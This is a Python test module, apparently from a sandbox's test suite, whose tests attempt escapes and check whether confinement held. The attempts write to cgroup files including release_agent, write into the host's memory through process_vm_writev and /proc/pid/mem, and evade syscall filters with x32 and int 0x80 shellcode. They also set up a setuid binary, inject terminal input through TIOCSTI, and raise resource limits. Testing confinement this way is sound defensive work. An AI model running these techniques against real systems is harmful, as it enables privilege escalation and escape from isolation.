"""Attacks for more rights: of root, of another architecture, over memory, terminals and limits.

Each tries what it can and is then held still, while the host looks at what came of it.
"""

import ctypes
import os
from contextlib import suppress

from tests.sandboxes.host import (
    CALL,
    Attacker,
    Host,
    NothingToTry,
    Unconfined,
    attack,
    held,
    innocent,
)
from tests.sandboxes.looking import NAMESPACES, Seen, pids_with, set_apart

KEPT_RIGHTS = sum(1 << n for n in (0, 1, 3, 4, 5, 6, 7, 10, 29, 31))
"""For files, users and groups of the sandbox's own user namespace."""


@attack(control="root")
async def changes_its_control_group(attacker: Attacker, host: Host) -> str:
    """Goes to another one, opens the limits of its own, asks to be spared when memory is short."""
    async with innocent(attacker, host) as process:
        before = process.groups()
    script = """
import glob
for pattern in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/*/cgroup.procs"):
    for path in glob.glob(pattern):
        try:
            open(path, "w").write(str(os.getpid()))
        except OSError:
            pass
for folder, _, names in os.walk("/sys/fs/cgroup"):
    for name in {"memory.max", "memory.limit_in_bytes", "pids.max", "release_agent"} & set(names):
        try:
            kept(os.open(folder + "/" + name, os.O_WRONLY))
        except OSError:
            pass
    if len(held) > 20:
        break
try:
    open("/proc/self/oom_score_adj", "w").write("-1000")
except OSError:
    pass
"""
    async with held(attacker, host, script) as process:
        opened = [file.link for file in process.files_beyond()]
        is_spared = process.badness() < Seen(os.getpid()).badness()
        after = process.groups()
    found = opened + ["spared"] * is_spared + ([] if before == after else after)
    return " ".join(found)


@attack(control="anyone")
async def writes_into_memory_of_the_host(attacker: Attacker, host: Host) -> str:
    """Of the very process that opened the sandbox, where the host can see it."""
    content = ctypes.create_string_buffer(b"untouched")
    address, size = ctypes.addressof(content), len(content.value)
    script = (
        CALL
        + f"""
pid, address, size = {os.getpid()}, {address}, {size}
mine = ctypes.create_string_buffer(b"X" * size)
class Piece(ctypes.Structure):
    _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
own, theirs = Piece(ctypes.addressof(mine), size), Piece(address, size)
for target in (pid, os.getppid(), 1):
    call(311, 271, target, ctypes.byref(own), 1, ctypes.byref(theirs), 1, 0)
    try:
        with open(f"/proc/{{target}}/mem", "r+b", buffering=0) as file:
            file.seek(address)
            file.write(b"X" * size)
    except OSError:
        pass
"""
    )
    async with held(attacker, host, script):
        return "" if content.value == b"untouched" else "memory was changed"


ANOTHER_ARCHITECTURE = """
def by_x32():
    libc.syscall(ctypes.c_long(0x40000000 | 157), 15, NAME, 0, 0, 0)
def by_interrupt():
    libc.mmap.restype = ctypes.c_void_p
    low = libc.mmap(None, 4096, 7, 0x62, -1, 0)  # private, anonymous, in the low 2 GiB
    number = lambda value: value.to_bytes(4, "little")
    set_name = b"\\xb8" + number(172) + b"\\xbb" + number(15) + b"\\xb9" + number(low + 64)
    code = b"\\x53" + set_name + b"\\xcd\\x80" + b"\\x5b\\xc3"  # keeps rbx, as it must
    ctypes.memmove(low, code, len(code))
    ctypes.memmove(low + 64, NAME + b"\\0", len(NAME) + 1)
    ctypes.CFUNCTYPE(ctypes.c_int)(low)()
done, doing = os.pipe()
for act in (by_x32, by_interrupt):
    if os.fork() == 0:
        act()
        os.close(doing)
        libc.pause()
os.close(doing)
os.read(done, 1)  # until each has acted, or was killed for it
"""


@attack(control="anyone")
async def enters_as_another_architecture(attacker: Attacker, host: Host) -> str:
    """32-bit and x32 calls have other numbers, which a filter might not know.

    A process gives itself a name by such a call; the host looks who bears it.
    """
    if os.uname().machine != "x86_64" or not await is_named(Unconfined({}), host, b"o"):
        raise NothingToTry("this kernel takes no other kind of calls")
    return "named" if await is_named(attacker, host, b"n") else ""


async def is_named(attacker: Attacker, host: Host, letter: bytes) -> bool:
    """Whether a process could name itself by another kind of call."""
    name = letter + host.secret[:14].encode()
    async with held(attacker, host, f"NAME = {name!r}\n" + ANOTHER_ARCHITECTURE):
        return bool(pids_with(name + b"\n", "comm"))


@attack(control="root")
async def gains_rights_by_setuid(attacker: Attacker, host: Host) -> str:
    """A program that is owned by root and runs as its owner, called by somebody else."""
    script = f"""
import shutil, subprocess
place = next(p for p in ({str(host.folder)!r}, "/work", "/srv") if os.access(p, os.W_OK))
path = place + "/become"
shutil.copy("/usr/bin/sleep", path)
try:
    os.chmod(path, 0o6755)
except OSError:
    os.chmod(path, 0o755)
def other():
    if os.getuid() == 0:
        os.setgroups([]); os.setgid(1234); os.setuid(1234)
kept(subprocess.Popen(["become-" + mark, "60"], executable=path, preexec_fn=other))
time.sleep(0.2)
"""
    async with held(attacker, host, script) as process:
        found = pids_with(f"become-{host.secret}".encode(), "cmdline")
        become = [Seen(pid) for pid in found if Seen(pid).parent == process]
        if len(become) != 1:
            return "the program was not started"
        uids, gids = become[0].status("Uid").split(), become[0].status("Gid").split()
        rights = int(become[0].status("CapEff"), 16)
        is_first = attacker.profile == "machine" and uids[0] == process.status("Uid").split()[0]
    is_well = len(set(uids)) == len(set(gids)) == 1 and not rights and not is_first
    return "" if is_well else f"{uids} {gids} {rights:x}"


@attack(control="anyone")
async def has_rights_on_the_host(attacker: Attacker, host: Host) -> str:
    """What the kernel notes about a command: its user, rights, filter and namespaces.

    Whatever else it may call, these decide.
    """
    async with innocent(attacker, host) as process:
        rights = [int(process.status(f"Cap{kind}"), 16) for kind in ("Eff", "Prm", "Bnd", "Inh")]
        uids = process.status("Uid").split()
        filtered = (process.status("Seccomp"), process.status("NoNewPrivs"))
        apart = set_apart(process)
    allowed = KEPT_RIGHTS if attacker.profile == "machine" else 0
    found = [f"{name}" for name in NAMESPACES if name not in apart]
    found += [f"rights {bits:x}" for bits in rights[:2] if bits & ~allowed]
    found += ["root"] if "0" in uids else []
    return " ".join(found + ([] if filtered == ("2", "1") else [f"filter {filtered}"]))


@attack(control="anyone")
async def types_into_a_terminal(attacker: Attacker, host: Host) -> str:
    """TIOCSTI puts characters into a terminal as if the user had typed them."""
    terminal, name = host.put_terminal()
    script = f"""
import fcntl, pty
opened = []
for path in ("/dev/tty", {name!r}, "/proc/1/root{name}", "/proc/1/fd/0"):
    try:
        opened.append(kept(os.open(path, os.O_RDWR | os.O_NOCTTY)))
    except OSError:
        pass
for fd in [*opened, 0, 1, 2]:
    for number in (0x5412, 0x541C):
        try:
            fcntl.ioctl(fd, number, b"x")
        except OSError:
            pass
for fd in opened:
    try:
        os.write(fd, b"typed")
    except OSError:
        pass
"""
    async with held(attacker, host, script) as process:
        has_terminal = process.terminal != 0
    with suppress(BlockingIOError):
        return f"typed {os.read(terminal, 100)!r}"
    return "has a terminal" if has_terminal else ""


@attack(control="root")
async def raises_its_limits(attacker: Attacker, host: Host) -> str:
    """The host reads the limits that the kernel holds it to."""
    async with innocent(attacker, host) as process:
        before, niceness, policy = process.limits(), process.niceness, process.policy
    script = """
import resource
for name in ("NOFILE", "NPROC", "CORE", "MEMLOCK", "NICE", "RTPRIO", "SIGPENDING", "MSGQUEUE"):
    kind = getattr(resource, "RLIMIT_" + name, None)
    if kind is not None:
        soft, hard = resource.getrlimit(kind)
        try:
            resource.setrlimit(kind, (hard + 1, hard + 1) if hard >= 0 else (soft, hard))
        except (OSError, ValueError):
            pass
real_time = os.sched_param(1)
for act in (lambda: os.nice(-5), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, real_time)):
    try:
        act()
    except OSError:
        pass
"""
    async with held(attacker, host, script) as process:
        after = process.limits()
        found = [name for name in after if after[name] > before[name]]
        found += ["nicer"] if process.niceness < niceness else []
        found += ["real time"] if process.policy != policy else []
    return " ".join(found)
